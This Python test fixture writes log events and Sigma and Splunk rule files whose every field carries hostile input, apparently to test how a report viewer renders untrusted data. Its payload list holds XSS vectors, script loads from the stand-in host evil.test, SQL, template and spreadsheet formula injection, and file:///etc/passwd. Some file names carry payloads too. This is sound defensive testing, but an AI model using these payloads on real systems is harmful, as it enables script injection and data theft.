"""A store whose every field holds something that is meant to harm a browser: values, field names, hosts, users, paths, rules."""

import json
import os

# What breaks out of text, attributes, scripts, styles, JSON, templates; what asks for something; what hides or turns text around; what
# is long, empty, or looks like a name of this page.
PAYLOADS = [
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(3)>", "\"><img src=x onerror=alert(4)>", "'><img src=x onerror=alert(5)>", "`><img src=x onerror=alert(6)>",
    "<svg onload=alert(7)>", "<svg><script>alert(8)</script></svg>", "<svg><animate onbegin=alert(9) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>", "<iframe src=javascript:alert(11)></iframe>",
    "<iframe srcdoc='<script>alert(12)</script>'>", "<object data=javascript:alert(13)>", "<embed src=javascript:alert(14)>",
    "<a href=javascript:alert(15)>click</a>", "javascript:alert(16)", "JaVaScRiPt:alert(17)", "java\tscript:alert(18)",
    "data:text/html,<script>alert(19)</script>", "vbscript:msgbox(20)", "<base href=//evil.test/>", "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<style>@import '//evil.test/x.css'</style>", "<style>*{background:url(//evil.test/x)}</style>",
    "</style><script>alert(21)</script>", "</title><script>alert(22)</script>", "</textarea><script>alert(23)</script>",
    "--><script>alert(24)</script>", "<!--<script>", "<![CDATA[<script>alert(25)</script>]]>", "<noscript><p title='</noscript><img src=x onerror=alert(26)>'>",
    "<template><script>alert(27)</script></template>", "<form action=//evil.test><input type=submit autofocus onfocus=alert(28)>",
    "<input autofocus onfocus=alert(29)>", "<details open ontoggle=alert(30)>", "<video><source onerror=alert(31)>", "<audio src=x onerror=alert(32)>",
    "<body onload=alert(33)>", "<marquee onstart=alert(34)>", "<x onclick=alert(35)>", "\" onmouseover=alert(36) x=\"", "' onmouseover=alert(37) x='",
    "&lt;script&gt;alert(38)&lt;/script&gt;", "&#60;script&#62;alert(39)&#60;/script&#62;", "\\u003cscript\\u003ealert(40)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(41)", "${alert(42)}", "{{constructor.constructor('alert(43)')()}}", "{{data}}{{script}}", "#{7*7}", "<%= 7*7 %>",
    "__proto__", "constructor", "toString", "hasOwnProperty", "'; DROP TABLE finding; --", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "exe.\u202etxt.scr", "\u2066isolate\u2069", "zero\u200bwidth\ufeff", "\u001b[31mred\u001b[0m", "nul\u0000byte", "line\u2028separator\u2029end",
    "bell\u0007\b\u007f\u0085", "\ud83d\ude00 emoji \u0301\u0302", "\U000e0041tag", "null", "undefined", "NaN", "[object Object]", "-1", "1e999",
    "document.title='taken'", "<script>document.title='taken'</script>", "on\nmany\r\nlines\t", " ", "A" * 9000, "<" * 3000, "%00%3Cscript%3E", "\\\\server\\share\\<b>",
    "http://evil.test/beacon.gif", "https://evil.test/?q=<img>", "//evil.test/x", "file:///etc/passwd", "<img src=http://evil.test/beacon.gif>",
    "summary", "findings", "data", "rows", "level critical", "<plaintext>", "<xmp>", "<b>bold</b>", "*: label* · x*: y",
]
assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60

RULE_ID = "5f2d6a10-0000-4000-8000-%012d"


def write(folder):
    """Writes logs and rules into a folder; returns the paths of both."""
    logs, rules = os.path.join(folder, "logs"), os.path.join(folder, "rules")
    os.makedirs(logs)
    os.makedirs(rules)
    # A file name holds what a file system takes.
    for part, name in enumerate(["<img src=x onerror=alert(50)>.jsonl", "\u202elnosj.jsonl", "a\"'b&{{data}}.jsonl"]):
        with open(os.path.join(logs, name), "w", encoding="utf-8") as file:
            for number, payload in enumerate(PAYLOADS):
                if number % 3 == part:
                    file.writelines(json.dumps(event) + "\n" for event in events(number, payload))
    for number, payload in enumerate(PAYLOADS):
        if number % 6 == 0:
            with open(os.path.join(rules, f"sigma{number}.yml"), "w", encoding="utf-8") as file:
                file.write(sigma(number))
    with open(os.path.join(rules, "splunk.yml"), "w", encoding="utf-8") as file:
        file.write(splunk())
    return logs, rules


def events(number, payload):
    """A process, its child, and an event of no kind that is known, all of them made of one payload."""
    time = f"2024-03-{1 + number % 28:02}T10:{number % 60:02}:00.000Z"
    sysmon = {"@timestamp": time, "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Hostname": payload}
    own, above = f"{{0000000A-0000-0000-0000-{number:012}}}", f"{{0000000B-0000-0000-0000-{number:012}}}"
    texts = {"Image": payload, "CommandLine": payload, "User": payload, "ParentImage": payload, "ParentCommandLine": payload, "Company": "hostile"}
    yield {**sysmon, "RecordNumber": 2 * number + 1, "ProcessGuid": above, "ParentProcessGuid": own, **texts}
    yield {**sysmon, "RecordNumber": 2 * number + 2, "ProcessGuid": own, "ParentProcessGuid": above, **texts}
    yield {"@timestamp": time, "Channel": "Security", "EventID": 4624, "Hostname": payload, "RecordNumber": number, "TargetUserName": payload,
           "IpAddress": payload, "WorkstationName": payload, "Marker": "hostile", payload[:60] or "x": payload}


def quoted(text):
    """YAML: JSON's quotes, with characters that YAML forbids spelled out."""
    return json.dumps(text)


def sigma(number):
    texts = [PAYLOADS[(number + step) % len(PAYLOADS)] for step in range(6)]
    level = ["critical", "high", "medium", "low", "informational"][number // 6 % 5]
    # Some rules have no events to find, one cannot be compiled: both are in the appendix.
    source = ["category: process_creation\n    product: windows", "product: windows\n    service: security", "product: azure\n    service: auditlogs"][number // 6 % 3]
    field = ["Company", "Marker", "Marker"][number // 6 % 3]
    return f"""title: {quoted('T ' + texts[0])}
id: {RULE_ID % number}
status: test
description: {quoted(texts[1])}
author: {quoted(texts[2])}
references:
    - {quoted(texts[3])}
    - http://evil.test/{number}
falsepositives:
    - {quoted(texts[4])}
level: {level}
tags:
    - attack.execution
    - attack.t1{number:03}
logsource:
    {source}
detection:
    selection:
        {field}: hostile
    condition: {'selection' if number % 36 else 'nothing_like_that'}
"""


def splunk():
    return f"""name: {quoted('S ' + PAYLOADS[1])}
id: {RULE_ID % 999}
type: TTP
status: production
description: {quoted(PAYLOADS[3])}
author: {quoted(PAYLOADS[4])}
search: {quoted('EventCode=4624 Marker=hostile | stats count values(IpAddress) as IpAddress by TargetUserName WorkstationName')}
known_false_positives: {quoted(PAYLOADS[7])}
references: [{quoted(PAYLOADS[8])}]
tags: {{analytic_story: [{quoted(PAYLOADS[5])}], mitre_attack_id: [T1110]}}
rba:
  message: $TargetUserName$ {PAYLOADS[10].replace(':', ' ')}
  risk_objects:
  - {{field: TargetUserName, type: user, score: 55}}
  - {{field: WorkstationName, type: system, score: 55}}
  threat_objects: []
"""
